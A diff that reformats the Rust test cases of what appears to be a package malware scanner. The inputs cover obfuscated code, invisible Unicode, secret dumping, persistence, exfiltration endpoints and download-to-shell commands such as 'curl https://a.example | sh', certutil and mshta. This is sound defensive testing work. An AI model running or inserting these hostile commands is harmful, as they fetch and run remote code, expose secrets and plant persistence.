@@ -22,11 +22,7 @@ fn check_in(path: &str, kind: SignalKind, yes: &[&str], no: &[&str]) {
 fn hidden_and_obscured_code() {
     check(
         SignalKind::ObfuscatorMarks,
-        &[
-            "var _0x1a2b=1,x;const _0x1a2c=2;function _0x9f8e(){}",
-            "a['push'](a['shift']());",
-            "_0xc[\"push\"](_0xc[\"shift\"]())",
-        ],
+        &["var _0x1a2b=1,x;const _0x1a2c=2;function _0x9f8e(){}", "a['push'](a['shift']());", "_0xc[\"push\"](_0xc[\"shift\"]())"],
         &[
             "var _0x1a2b=1;var _0x1a2b=2;var _0x1a2b=3",
             "var _0xyz=1,_0xzz=2;",
@@ -71,7 +67,11 @@ fn hidden_and_obscured_code() {
     check(
         SignalKind::InvisibleCharacters,
         &[&format!("const s = '{tags}'"), "`\u{fe00}\u{fe01}\u{fe02}\u{fe0f}`", "\u{e0061}\u{e0062}\u{e0063}\u{e0064}"],
-        &["'❤\u{fe0f}❤\u{fe0f}❤\u{fe0f}❤\u{fe0f}'", "\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}", "\u{200d}\u{200d}\u{200d}\u{200d}"],
+        &[
+            "'❤\u{fe0f}❤\u{fe0f}❤\u{fe0f}❤\u{fe0f}'",
+            "\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
+            "\u{200d}\u{200d}\u{200d}\u{200d}",
+        ],
     );
     check(SignalKind::BidirectionalText, &["if (a /*\u{202e} } \u{2066}*/ ) {"], &["'\u{200e}'", "שלום"]);
     check(SignalKind::WhitespaceHidden, &[&format!("a();{}run(x);", " ".repeat(500))], &[&format!("const pad = '{}';", " ".repeat(500))]);
@@ -103,7 +103,11 @@ fn stolen_secrets() {
     );
     check(
         SignalKind::SecretScanner,
-        &["execSync('trufflehog filesystem / --json')", "'https://host.example/trufflesecurity/trufflehog/releases/download/v3'", "spawn('gitleaks', ['dir'])"],
+        &[
+            "execSync('trufflehog filesystem / --json')",
+            "'https://host.example/trufflesecurity/trufflehog/releases/download/v3'",
+            "spawn('gitleaks', ['dir'])",
+        ],
         &["const icons = ['trufflehog', 'gitleaks', 'vault']", "// see also gitleaks"],
     );
     check(SignalKind::WorkflowSecrets, &["run: echo ${{ toJSON(secrets) }}"], &["toJSON(github)", "toJSON()"]);
@@ -183,7 +187,14 @@ fn what_spreads_stays_and_destroys() {
             "'HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run'",
             "schtasks /create /tn x",
         ],
-        &["// crontab syntax: * * * * *", "/cron|crontab|csplit/", "systemctl status x", "'/etc/systemd/resolved.conf'", "Library/Caches", "CurrentVersion\\\\Uninstall"],
+        &[
+            "// crontab syntax: * * * * *",
+            "/cron|crontab|csplit/",
+            "systemctl status x",
+            "'/etc/systemd/resolved.conf'",
+            "Library/Caches",
+            "CurrentVersion\\\\Uninstall",
+        ],
     );
     check(SignalKind::DetachedProcess, &["spawn(a, [], { detached: true })", "{detached:!0}"], &["detached: false", "isDetached: x"]);
 }
@@ -213,7 +224,11 @@ fn what_speaks_to_the_world() {
         &["'webhook.site'", "'https://mywebhook.site.example'", "https://pastebin.com/about", "// ngrok.io"],
     );
     check(SignalKind::Messenger, &["'https://api.telegram.org/bot' + t", "'https://hooks.slack.com/services'"], &["telegram.org"]);
-    check(SignalKind::PublicAddress, &["get('http://51.51.51.51/x')"], &["get('http://127.0.0.1')", "'http://10.1.2.3'", "'http://8.8.8.8'"]);
+    check(
+        SignalKind::PublicAddress,
+        &["get('http://51.51.51.51/x')"],
+        &["get('http://127.0.0.1')", "'http://10.1.2.3'", "'http://8.8.8.8'"],
+    );
     check(
         SignalKind::DownloadToShell,
         &[
@@ -226,7 +241,13 @@ fn what_speaks_to_the_world() {
             "certutil -urlcache -f https://a.example x",
             "mshta https://a.example",
         ],
-        &["curl https://a.example > file", "curl x || sh y", "const curl = 1 | shift", "wget -O file https://a.example", "keywords: 'iex ihy iwmi iwr kill irm ise'"],
+        &[
+            "curl https://a.example > file",
+            "curl x || sh y",
+            "const curl = 1 | shift",
+            "wget -O file https://a.example",
+            "keywords: 'iex ihy iwmi iwr kill irm ise'",
+        ],
     );
     let told = crate::ecosystem::scan::of_commands("curl https://a.example | sh", "package.json");
     assert!(matches!(told.as_slice(), [one] if one.kind == SignalKind::DownloadToShell && one.file == "package.json"), "{told:?}");
